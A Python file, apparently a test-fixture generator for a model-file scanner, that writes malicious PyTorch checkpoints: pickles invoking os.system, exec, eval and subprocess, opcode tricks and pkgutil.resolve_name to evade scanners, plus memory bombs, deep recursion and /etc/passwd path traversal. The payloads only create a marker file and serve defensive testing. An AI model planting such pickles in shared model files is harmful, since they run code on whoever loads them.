"""Model files whose pickle is the weapon."""

from __future__ import annotations

import io
import os
import pickle
import struct
import warnings
import zipfile
from collections import OrderedDict
from pathlib import Path
from typing import Any

import numpy as np
import torch
from hostile_recipes import Write, hostile

GROUP = "model pickles"


def text(value: str) -> bytes:
    raw = value.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw


def call(module: str, name: str, *arguments: bytes) -> bytes:
    return b"c" + f"{module}\n{name}\n".encode() + b"(" + b"".join(arguments) + b"tR"


def touch(marker: Path) -> bytes:
    return text(f"touch {marker}")


def writing(marker: Path) -> bytes:
    return text(f"open({str(marker)!r}, 'w').close()")


def plain_state() -> dict[str, torch.Tensor]:
    return {"fc.weight": torch.ones(3, 4), "fc.bias": torch.zeros(3)}


def saved(value: Any, **options: Any) -> bytes:
    file = io.BytesIO()
    torch.save(value, file, **options)
    return file.getvalue()


def archived(pickled: bytes) -> bytes:
    """A checkpoint of PyTorch's, with another pickle in it."""
    file = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(saved(plain_state()))) as old,
        zipfile.ZipFile(file, "w") as new,
    ):
        for name in old.namelist():
            new.writestr(name, pickled if name.endswith("data.pkl") else old.read(name))
    return file.getvalue()


class Reduced:
    """Pickles as a call."""

    def __init__(self, function: Any, *arguments: Any) -> None:
        self.call = function, arguments

    def __reduce__(self) -> Any:
        return self.call


def model(content: bytes) -> Write:
    def write(folder: Path, marker: Path) -> Path:
        (folder / "victim.pt").write_bytes(content)
        return folder / "victim.pt"

    return write


def put(folder: Path, content: bytes) -> Path:
    return model(content)(folder, folder)


def beside_weights(name: str, protocol: int, *, zipped: bool) -> None:
    @hostile(GROUP, name, "os.system beside weights", "reads", "posix.system", runs="torch")
    def write(folder: Path, marker: Path) -> Path:
        state = {**plain_state(), "x": Reduced(os.system, f"touch {marker}")}
        options = {"_use_new_zipfile_serialization": zipped, "pickle_protocol": protocol}
        return put(folder, saved(state, **options))


beside_weights("zip-os-system", 2, zipped=True)
beside_weights("zip-os-system-protocol-4", 4, zipped=True)
beside_weights("legacy-os-system", 2, zipped=False)


@hostile(GROUP, "bare-os-system", "os.system, a bare pickle named .pt", runs="pickle")
def _(folder: Path, marker: Path) -> Path:
    return put(folder, pickle.dumps(Reduced(os.system, f"touch {marker}"), protocol=2))


@hostile(GROUP, "bare-protocol-0", "os.system in the oldest protocol, all text", runs="pickle")
def _(folder: Path, marker: Path) -> Path:
    return put(folder, pickle.dumps(Reduced(os.system, f"touch {marker}"), protocol=0))


def calling(name: str, tries: str, make: Any, runs: str = "torch") -> None:
    @hostile(GROUP, name, tries, runs=runs)
    def write(folder: Path, marker: Path) -> Path:
        return put(folder, archived(b"\x80\x02" + make(marker) + b"."))


calling("zip-exec", "builtins.exec", lambda m: call("builtins", "exec", writing(m)))
calling(
    "zip-eval", "builtins.eval", lambda m: call("builtins", "eval", text(f"open({str(m)!r}, 'w')"))
)
calling(
    "zip-popen",
    "subprocess.Popen",
    lambda m: call("subprocess", "check_call", b"(" + text("touch") + text(str(m)) + b"l"),
)
calling(
    "zip-getattr-chain",
    "getattr(import_module('os'), 'system')",
    lambda m: (
        call("builtins", "getattr", call("importlib", "import_module", text("os")), text("system"))
        + b"("
        + touch(m)
        + b"tR"
    ),
)
calling(
    "zip-resolve-name",
    "pkgutil.resolve_name, the bypass of scanners",
    lambda m: call("pkgutil", "resolve_name", text("os:system")) + b"(" + touch(m) + b"tR",
)
calling(
    "zip-file-handler",
    "logging.FileHandler makes a file",
    lambda m: call("logging", "FileHandler", text(str(m))),
)
calling(
    "zip-run-path",
    "runpy via _run_code",
    lambda m: call("runpy", "_run_code", writing(m), b"}"),
)
calling(
    "zip-dotted-attribute",
    "torch.serialization.os.system by a dotted name",
    lambda m: (
        b"\x80\x04" + text("torch.serialization") + text("os.system") + b"\x93(" + touch(m) + b"tR"
    ),
)
calling(
    "zip-memoised-names",
    "STACK_GLOBAL with names out of the memo",
    lambda m: (
        b"\x80\x04"
        + text("system")
        + b"\x94"
        + text("posix")
        + b"\x9400"
        + b"h\x01h\x00\x93("
        + touch(m)
        + b"tR"
    ),
)
calling(
    "zip-names-in-a-tuple",
    "STACK_GLOBAL with names pushed apart",
    lambda m: b"\x80\x04" + text("posix") + text("system") + b"N0\x93(" + touch(m) + b"tR",
)
calling(
    "zip-instance-opcode",
    "INST in place of GLOBAL and REDUCE",
    lambda m: b"(" + touch(m) + b"iposix\nsystem\n",
)
calling(
    "zip-object-opcode",
    "OBJ in place of REDUCE",
    lambda m: b"(cposix\nsystem\n" + touch(m) + b"o",
)


@hostile(GROUP, "zip-nested-pickle", "torch.storage._load_from_bytes", runs="torch")
def _(folder: Path, marker: Path) -> Path:
    inner = saved(Reduced(os.system, f"touch {marker}"), _use_new_zipfile_serialization=False)
    nested = b"B" + struct.pack("<I", len(inner)) + inner
    return put(
        folder, archived(b"\x80\x03" + call("torch.storage", "_load_from_bytes", nested) + b".")
    )


@hostile(
    GROUP,
    "module-with-payload",
    "a whole module, os.system among its settings",
    "reads",
    "posix.system",
    runs="torch",
)
def _(folder: Path, marker: Path) -> Path:
    network = torch.nn.Sequential(torch.nn.Linear(4, 3))
    network.trap = Reduced(os.system, f"touch {marker}")  # type: ignore[assignment]
    return put(folder, saved(network))


@hostile(GROUP, "setstate-trap", "BUILD calls a __setstate__", runs="torch")
def _(folder: Path, marker: Path) -> Path:
    trap = b"csubprocess\nPopen\n)\x81}" + text("args") + touch(marker) + b"sb0"
    then = call("posix", "system", touch(marker))
    return put(
        folder,
        archived(b"\x80\x02" + trap.replace(b")\x81", b"(" + text("true") + b"tR") + then + b"."),
    )


for name, tries, pickled in (
    ("extension-code", "an extension registered elsewhere", b"\x80\x02\x82\x01)R."),
    ("memo-bomb", "LONG_BINPUT at 2^31", b"\x80\x02}r\xff\xff\xff\x7f."),
    ("memo-bomb-many", "a memo of a million entries", b"\x80\x02}" + b"".join(b"r" + struct.pack("<I", k * 4001) for k in range(300_000)) + b"."),
    ("huge-bytearray", "bytearray(20 GiB)", b"\x80\x02" + call("builtins", "bytearray", b"\x8a\x05\x00\x00\x00\x00\x05") + b"."),
    ("huge-float-tensor", "FloatTensor(10^10)", b"\x80\x02" + call("torch", "FloatTensor", b"\x8a\x05\x00\xe4\x0bT\x02") + b"."),
    ("huge-string-length", "a string of 2^60 bytes", b"\x80\x04\x8d" + struct.pack("<Q", 1 << 60) + b"x."),
    ("huge-frame", "a frame of 2^62 bytes", b"\x80\x04\x95" + struct.pack("<Q", 1 << 62) + b"N."),
    ("decimal-bomb", "a number of two million digits", b"\x80\x02L" + b"9" * 2_000_000 + b"L\n."),
    ("long-bomb", "a LONG4 of 10 MB", b"\x80\x02\x8b" + struct.pack("<i", 10_000_000) + b"\x7f" * 10_000_000 + b"."),
    ("deep-tuples", "tuples nested 200,000 deep", b"\x80\x02)" + b"\x85" * 200_000 + b"."),
    ("deep-lists", "marks nested 500,000 deep", b"\x80\x02" + b"(" * 500_000 + b"l" * 500_000 + b"."),
    ("laughs", "2^60 leaves by sharing", b"\x80\x02)q\x00" + b"".join(b"0h%ch%c\x86q%c" % (k, k, k + 1) for k in range(60)) + b"."),
    ("recursive-list", "a list that holds itself", b"\x80\x02]q\x00h\x00a."),
    ("recursive-dict", "a state_dict that holds itself", b"\x80\x02}q\x00" + text("state_dict") + b"h\x00s."),
    ("stack-underflow", "pops what is not there", b"\x80\x02000R."),
    ("no-end", "a pickle without its end", b"\x80\x02}" + text("fc.weight")),
    ("protocol-255", "a protocol that does not exist", b"\x80\xff}."),
    ("wrong-utf8", "text that is no UTF-8", b"\x80\x02}X\x02\x00\x00\x00\xff\xfeNs."),
    ("unhashable-key", "a list as a key", b"\x80\x02}]Ns."),
    ("out-of-band-buffer", "NEXT_BUFFER without buffers", b"\x80\x05\x97\x98."),
    ("rich-text-class", "<img src=file:...> as the name of a class", b"\x80\x02" + call("<b>x</b>", "<img src=file:///etc/passwd>", b"}") + b"."),
    ("bidi-class", "a class name that reads backwards", b"\x80\x02" + call("torch.\u202enn", "gpj.exe\u202c", b"}") + b"."),
    ("long-class-name", "a class name of 100,000 characters", b"\x80\x02" + call("a" * 100_000, "b", b"}") + b"."),
    ("persistent-path", "a storage named ../../etc/passwd", b"\x80\x02}" + text("fc.weight") + call("torch._utils", "_rebuild_tensor_v2", b"(" + text("storage") + b"ctorch\nFloatStorage\n" + text("../../../../etc/passwd") + text("cpu") + b"K\x0ctQ", b"K\x00", b"K\x03K\x04\x86", b"K\x04K\x01\x86", b"\x89", b"}") + b"s."),
):  # fmt: skip
    hostile(GROUP, name, tries)(model(archived(pickled)))


def tensors(name: str, tries: str, state: Any, outcome: str = "refused", says: str = "") -> None:
    hostile("model tensors", name, tries, outcome, says)(model(saved(state)))


W = torch.ones(3, 4)
with warnings.catch_warnings():
    warnings.simplefilter("ignore")  # on its way out of torch, and still in files
    QUANTISED = torch.quantize_per_tensor(W, 0.1, 0, torch.qint8)
tensors(
    "stride-zero", "shape 10^6 x 10^6 over one value", {"w": torch.zeros(1).expand(10**6, 10**6)}
)
SHARED = torch.zeros(1 << 20).view(1024, 1024)
tensors("many-views", "60 tensors over one storage", {f"w{k}": SHARED[:] for k in range(60)})
tensors("meta-tensor", "weights on the meta device", {"w": torch.zeros(3, 4, device="meta")})
tensors("sparse-tensor", "a sparse tensor", {"w": torch.eye(3).to_sparse()})
tensors("complex-tensor", "complex weights", {"w": torch.zeros(3, 4, dtype=torch.complex64)})
tensors(
    "quantised-tensor",
    "a quantised tensor",
    {"w": QUANTISED},
)
tensors(
    "nan-weights",
    "NaN and infinity among the weights",
    {"w": torch.tensor([[float("nan"), float("inf")]])},
    "reads",
    "NaN|infinit|finite",
)
tensors("newline-key", "a newline in a name", {"a\nb": W})
tensors("bidi-key", "a name that reads backwards", {"\u202eweight": W})
tensors("long-key", "a name of 100,000 characters", {"x" * 100_000: W})
tensors(
    "rich-text-key",
    "rich text as a name",
    {"<img src=file:///etc/passwd>": W, "fc.weight": W},
    "reads",
)
tensors("number-key", "a number as a name", {5: W})
tensors("no-tensors", "nothing but text", {"a": "b"})
tensors("only-scalars", "no weights of layers", {"mean": torch.zeros(3)})
tensors(
    "many-tensors",
    "100,001 tensors",
    dict.fromkeys((f"t{k}" for k in range(100_001)), torch.zeros(1)),
)


class Shadowed:
    """Pickles as a table of weights whose `items` is set to a class behind its entries."""

    def __reduce__(self) -> Any:
        return OrderedDict, (), {"items": torch.Size}, None, iter(plain_state().items())


@hostile("model tensors", "shadowed-items", "`items` of the table replaced by a class", "reads", "")
def _(folder: Path, marker: Path) -> Path:
    return put(folder, saved({"state_dict": Shadowed()}))


def rebuilt(size: bytes, stride: bytes, offset: bytes = b"K\x00") -> bytes:
    storage = (
        b"(" + text("storage") + b"ctorch\nFloatStorage\n" + text("0") + text("cpu") + b"K\x0ctQ"
    )
    made = call("torch._utils", "_rebuild_tensor_v2", storage, offset, size, stride, b"\x89", b"}")
    return archived(b"\x80\x02}" + text("fc.weight") + made + b"s.")


LARGE = b"\x8a\x08" + struct.pack("<q", 1 << 62)
NEGATIVE = b"J" + struct.pack("<i", -4)
for name, tries, content in (
    ("huge-shape", "2^62 rows", rebuilt(LARGE + LARGE + b"\x86", b"K\x01K\x01\x86")),
    ("negative-shape", "-4 rows", rebuilt(NEGATIVE + b"K\x04\x86", b"K\x04K\x01\x86")),
    ("negative-stride", "a stride of -4", rebuilt(b"K\x03K\x04\x86", NEGATIVE + b"K\x01\x86")),
    ("offset-outside", "an offset behind the storage", rebuilt(b"K\x03K\x04\x86", b"K\x04K\x01\x86", LARGE)),
    ("stride-outside", "a stride that leaves the storage", rebuilt(b"K\x03K\x04\x86", LARGE + b"K\x01\x86")),
    ("many-dimensions", "60 dimensions", rebuilt(b"(" + b"K\x01" * 60 + b"t", b"(" + b"K\x01" * 60 + b"t")),
):  # fmt: skip
    hostile("model tensors", name, tries)(model(content))


@hostile("model tensors", "object-array", "a numpy array of pickled objects", "reads", "")
def _(folder: Path, marker: Path) -> Path:
    trap = np.array([Reduced(os.system, f"touch {marker}")], dtype=object)
    return put(folder, saved({**plain_state(), "bd_train": trap}))
